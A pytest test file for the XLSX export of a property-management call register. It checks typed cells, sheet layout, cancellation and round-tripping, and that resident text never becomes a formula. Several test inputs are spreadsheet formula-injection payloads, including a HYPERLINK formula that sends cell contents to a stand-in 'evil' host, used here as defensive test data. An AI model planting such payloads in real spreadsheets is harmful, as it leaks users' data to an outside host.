"""Registers as XLSX: text stays text, days are days, money is numbers, nothing becomes a formula."""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from datetime import UTC, date, datetime, time, timedelta, timezone
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from frontdesk.core.clock import Clock
from frontdesk.core.errors import StoppedError, SurroundingsError
from frontdesk.core.fields import Choice, Field, Kind, Register
from frontdesk.exchange.sheet_in import read_sheet
from frontdesk.exchange.sheet_out import Heading, SheetPart, put_in_place, write_sheets

if TYPE_CHECKING:
    from collections.abc import Iterable

CLOCK = Clock(timezone(timedelta(hours=8)))
HEADING = Heading("富成花园", "2026-11  用途:月度统计")
REGISTER = Register(
    "call",
    "F-CALL",
    "公共信息[记录]表",
    (
        Field("day", "记录日期", Kind.DATE),
        Field("time", "记录时间", Kind.TIME),
        Field("at", "受理时间", Kind.MOMENT),
        Field("unit_no", "房间号", Kind.UNIT),
        Field("number", "来电号码", Kind.PHONE),
        Field("reason", "来电缘由", Kind.LONG_TEXT),
        Field("count", "件数", Kind.INTEGER),
        Field("amount", "金额", Kind.MONEY),
        Field("category", "类别", Kind.CHOICE, choices=(Choice("A", "A 投诉"),)),
        Field("secret", "不导出", exported=False),
    ),
)
AT = datetime(2026, 11, 21, 10, 26, tzinfo=UTC)
ROW = (date(2026, 11, 21), AT, AT, "3-2-1102", "013800138000", "漏水", 3, 123456, "A")


def write_sheet(
    path: Path, register: Register, rows: Iterable[Any], heading: Heading, clock: Clock, **more: Any
) -> int:
    return write_sheets(path, register, [SheetPart(register.title, rows)], heading, clock, **more)


def written(path: Path, *rows: tuple[Any, ...]) -> list[list[Any]]:
    """The rows below the head as openpyxl reads them, cells with value and kind."""
    write_sheet(path, REGISTER, rows, HEADING, CLOCK)
    put_in_place(path)
    return [list(row) for row in load_workbook(path).active.iter_rows(min_row=4)]


def test_f_call_days_are_days_telephones_text_and_money_numbers(tmp_path: Path) -> None:
    (cells,) = written(tmp_path / "a.xlsx", ROW)
    values = [cell.value for cell in cells]
    local = datetime(2026, 11, 21, 18, 26)  # noqa: DTZ001
    assert values == [
        datetime(2026, 11, 21),  # noqa: DTZ001
        time(18, 26),
        local,
        "3-2-1102",
        "013800138000",
        "漏水",
        3,
        1234.56,
        "A 投诉",
    ]
    assert [cell.data_type for cell in cells] == ["d", "d", "d", "s", "s", "s", "n", "n", "s"]
    assert cells[4].number_format == "@"
    assert cells[7].number_format == "#,##0.00"


@pytest.mark.parametrize(
    "said",
    [
        '=HYPERLINK("http://evil/?"&B2,"点击")',
        "=1+1",
        "+86",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "{=1}",
        "<b>&amp;",
        "㛃䶮𬱖",
    ],
)
def test_what_a_resident_said_is_never_a_formula(tmp_path: Path, said: str) -> None:
    (cells,) = written(tmp_path / "a.xlsx", (*ROW[:5], said, *ROW[6:]))
    assert (cells[5].value, cells[5].data_type) == (said, "s")
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_what_a_cell_cannot_hold_is_replaced_visibly(tmp_path: Path) -> None:
    (cells,) = written(
        tmp_path / "a.xlsx", (*ROW[:5], "漏水\x0b\x00\ud83d一行\r\n二行\uffff_x0041_", *ROW[6:])
    )
    assert cells[5].value == "漏水␋␀�一行\n二行�_x005F_x0041_"


@settings(max_examples=80, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=60))
def test_any_text_makes_a_sheet_that_can_be_read_again(tmp_path: Path, text: str) -> None:
    (cells,) = written(tmp_path / "a.xlsx", (*ROW[:5], text, *ROW[6:]))
    assert cells[5].data_type in ("s", "n")  # n: empty
    assert (cells[5].value is None) == (text == "")


def test_the_head_is_frozen_repeated_and_filtered(tmp_path: Path) -> None:
    written(tmp_path / "a.xlsx", ROW, ROW)
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert sheet.title == "公共信息 记录 表"
    assert sheet["A1"].value == "公共信息[记录]表"
    assert sheet["A2"].value == "富成花园  2026-11  用途:月度统计"
    assert [cell.value for cell in sheet[3]] == [field.label for field in REGISTER.exported]
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == ("A4", "A3:I5", "$1:$3")
    assert all(sheet.column_dimensions[letter].width >= 8 for letter in "ABCDEFGHI")


def test_what_was_written_comes_in_again(tmp_path: Path) -> None:
    written(tmp_path / "a.xlsx", ROW)
    assert read_sheet(tmp_path / "a.xlsx").rows[3][3:6] == ("3-2-1102", "013800138000", "漏水")


def test_stopping_and_failing_leave_no_file(tmp_path: Path) -> None:
    asked = iter([False, True])
    with pytest.raises(StoppedError):
        write_sheet(
            tmp_path / "a.xlsx", REGISTER, [ROW] * 1000, HEADING, CLOCK, cancelled=lambda: next(asked)
        )
    with pytest.raises(ZeroDivisionError):
        write_sheet(
            tmp_path / "a.xlsx", REGISTER, ((*ROW[:6], 1 // n, *ROW[7:]) for n in (1, 0)), HEADING, CLOCK
        )
    assert list(tmp_path.iterdir()) == []
    with pytest.raises(SurroundingsError, match="写不了"):
        write_sheet(tmp_path / "no" / "a.xlsx", REGISTER, [ROW], HEADING, CLOCK)


def test_writing_tells_how_far_it_is(tmp_path: Path) -> None:
    told: list[tuple[int, int]] = []
    rows = [ROW] * 450
    write_sheet(
        tmp_path / "a.xlsx",
        REGISTER,
        rows,
        HEADING,
        CLOCK,
        total=450,
        progress=lambda *step: told.append(step),
    )
    assert told == [(200, 450), (400, 450), (450, 450)]


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_it_and_sees_the_same_text(tmp_path: Path) -> None:
    said = '=HYPERLINK("http://evil/","点击") _x0041_'
    written(tmp_path / "a.xlsx", (*ROW[:5], said, *ROW[6:]))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    subprocess.run(
        [
            "soffice",
            profile,
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76",
            "a.xlsx",
        ],
        cwd=tmp_path,
        check=True,
        capture_output=True,
        timeout=120,
    )
    line = (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines()[3]
    assert line.startswith("2026-11-21,18:26,2026-11-21 18:26,3-2-1102,013800138000,")
    assert '"=HYPERLINK(""http://evil/"",""点击"") _x0041_"' in line
    assert line.endswith(',3,"1,234.56",A 投诉')


def test_f_call_printed_from_the_sheet_has_the_papers_columns_and_wraps_what_is_long(tmp_path: Path) -> None:
    register = Register(
        "call",
        "F-CALL",
        "公共信息记录表",
        (
            Field("reason", "来电缘由", Kind.LONG_TEXT, width=66),
            Field("outcome", "完成情况", max_length=1000, width=19),
            Field("goods", "携出物品", max_length=400),
        ),
    )
    write_sheet(tmp_path / "a.xlsx", register, [("漏水", "已疏通，" * 60, "电视")], HEADING, CLOCK)
    put_in_place(tmp_path / "a.xlsx")
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert sheet.print_area == "'公共信息记录表'!$A$1:$B$4"
    assert sheet["B4"].alignment.wrap_text
    assert sheet.column_dimensions["B"].width >= 24
